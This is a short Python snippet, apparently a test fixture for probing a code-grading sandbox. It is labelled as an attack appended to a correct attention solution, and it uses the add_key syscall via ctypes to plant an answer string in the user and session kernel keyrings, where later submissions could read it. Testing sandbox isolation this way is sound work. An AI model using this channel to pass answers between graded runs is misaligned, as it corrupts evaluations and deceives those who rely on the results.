# Attack (appended to a correct simple_attention.py): store this submission's answers in the
# kernel's keyrings (user, session, and a new one linked to the user keyring), where a later
# submission of the same uid, or any uid, could read them.
import ctypes as _ctypes
import platform as _platform

_libc = _ctypes.CDLL(None, use_errno=True)
_ADD_KEY = {"x86_64": 248, "aarch64": 217}[_platform.machine()]
_stored = []
for _ring, _name in ((-4, "user"), (-3, "session"), (-5, "user-session")):
    _id = _libc.syscall(_ADD_KEY, b"user", b"ch03-answers-@@TOKEN@@", b"softmax: [0.2, 0.3, 0.5]", 24, _ring)
    _stored.append(f"{_name}: {'stored' if _id >= 0 else _ctypes.get_errno()}")
print("keyring:", _stored, flush=True)
